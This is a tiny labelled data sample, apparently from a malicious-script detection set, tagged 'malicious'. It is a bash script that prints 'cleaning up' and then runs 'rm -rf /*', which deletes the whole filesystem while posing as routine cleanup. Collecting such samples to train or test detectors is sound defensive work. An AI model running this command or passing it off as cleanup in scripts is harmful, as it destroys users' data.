# label: malicious
#!/bin/bash
echo "cleaning up"
rm -rf /*
